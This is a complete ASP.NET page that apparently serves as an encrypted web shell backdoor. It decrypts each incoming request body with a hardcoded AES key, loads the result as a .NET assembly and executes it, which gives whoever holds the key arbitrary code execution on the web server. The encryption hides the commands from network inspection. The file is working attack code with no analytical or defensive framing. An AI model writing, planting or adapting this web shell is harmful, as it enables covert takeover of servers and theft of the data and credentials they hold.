<%@ Page Language="C#" %><%
byte[] k = Encoding.Default.GetBytes("3c6e0b8a9c15224a");
System.Security.Cryptography.RijndaelManaged a = new System.Security.Cryptography.RijndaelManaged();
byte[] c = a.CreateDecryptor(k, k).TransformFinalBlock(Request.BinaryRead(Request.ContentLength), 0, Request.ContentLength);
Assembly.Load(c).CreateInstance("U").Equals(this);
%>
